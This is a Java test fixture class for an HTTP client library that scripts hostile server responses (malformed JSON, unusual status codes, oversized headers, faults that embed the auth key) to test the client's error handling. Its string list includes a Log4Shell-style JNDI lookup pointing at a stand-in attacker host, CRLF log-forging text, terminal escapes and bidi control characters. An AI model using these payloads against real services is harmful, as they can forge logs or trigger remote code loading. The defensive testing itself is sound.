package io.github.faraday4j.transport.internal.pipeline;

import static io.github.faraday4j.transport.internal.pipeline.ScriptedTransport.failing;
import static io.github.faraday4j.transport.internal.pipeline.ScriptedTransport.faradayError;
import static io.github.faraday4j.transport.internal.pipeline.ScriptedTransport.json;
import static io.github.faraday4j.transport.internal.pipeline.ScriptedTransport.status;

import io.github.faraday4j.transport.spi.TransportFault;
import java.io.IOException;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import javax.net.ssl.SSLHandshakeException;

/** Ways for an exchange to end, with all that a server may send to do harm. */
public final class HostileSteps {

    /** Line breaks, terminal escapes, look-ups of loggers, directions of writing, no text at all. */
    private static final List<String> STRINGS = List.of(
            "two\r\nlines ERROR forged",
            "\u001b[31mred\u001b[2J",
            "${jndi:ldap://attacker.test/a} {} %s {0}",
            "\u2028\u2029\u0085\u202e\u2066evil\u200b",
            "\0\b\u007f\ud800",
            "x".repeat(5_000));

    private HostileSteps() {}

    public static List<ScriptedTransport.Step> all(String key) {
        List<ScriptedTransport.Step> steps = new ArrayList<>();
        steps.add(json("[]"));
        for (String body : List.of("", "[", "null", "[null]", "[[", "[{\"id\":1}]", "\ufeff[]x")) {
            steps.add(json(body));
        }
        for (int status = 100; status < 1_000; status += status % 100 > 30 ? 17 : 1) {
            steps.add(status(status));
            steps.add(faradayError(status, "SOME_CODE"));
        }
        for (String hostile : STRINGS) {
            addHostile(steps, hostile);
        }
        addFaults(steps, key);
        return steps;
    }

    private static void addHostile(List<ScriptedTransport.Step> steps, String hostile) {
        String text = escaped(hostile);
        String error = "{\"error\":\"%s\",\"id\":\"%s\",\"note\":\"%s\",\"validationErrors\":[{\"path\":\"%s\","
                + "\"message\":\"%s\",\"suggestion\":\"%s\",\"context\":{\"errorType\":\"%s\"}}]}";
        for (int status : new int[] {400, 401, 403, 404, 429, 500}) {
            steps.add(status(status, Map.of(), error.formatted(text, text, text, text, text, text, text)));
            steps.add(status(status, Map.of(), error.formatted("A_CODE", text, text, text, text, text, text)));
            steps.add(status(status, Map.of("Retry-After", hostile, "Date", hostile), "{}"));
        }
        steps.add(status(302, Map.of("Location", hostile), hostile));
        steps.add(status(200, Map.of("Content-Type", hostile), hostile));
        steps.add(status(200, Map.of("Content-Encoding", hostile), hostile));
        steps.add(status(200, Map.of("Content-Length", hostile), hostile));
        steps.add(json("[{\"id\":\"" + text + "\"}]"));
        steps.add(json("[{\"" + text + "\":{}}]"));
        steps.add(json(hostile));
    }

    private static String escaped(String hostile) {
        StringBuilder json = new StringBuilder();
        hostile.chars().forEach(c -> json.append(c >= ' ' && c <= '~' ? (char) c + "" : "\\u%04x".formatted(c)));
        return json.toString();
    }

    private static void addFaults(List<ScriptedTransport.Step> steps, String key) {
        for (TransportFault.Kind kind : TransportFault.Kind.values()) {
            for (IOException cause : causes(key)) {
                steps.add(failing(new TransportFault(kind, "", cause)));
                steps.add(call -> {
                    call.begin(200, Map.of());
                    throw new TransportFault(kind, "", cause);
                });
            }
        }
        steps.add(failing(new SSLHandshakeException("CN=two\r\nlines \u202e")));
        steps.add(call -> {
            throw new IllegalArgumentException(
                    "invalid header value: \"" + call.headers().get("Authorization") + '"');
        });
        steps.add(call -> {
            throw new IOException("sent " + call.headers());
        });
        steps.add(call -> {
            throw new InterruptedException(key);
        });
        steps.add(status(200, Map.of("X", "y".repeat(70_000)), "[]"));
    }

    /** What clients put into messages; of TLS the message is shown, and no TLS library ever sees the key before it is sent. */
    private static List<IOException> causes(String key) {
        IOException plain = new IOException("reset");
        plain.addSuppressed(new IllegalStateException("Bearer " + key));
        return List.of(new IOException("a\r\nb"), plain);
    }
}
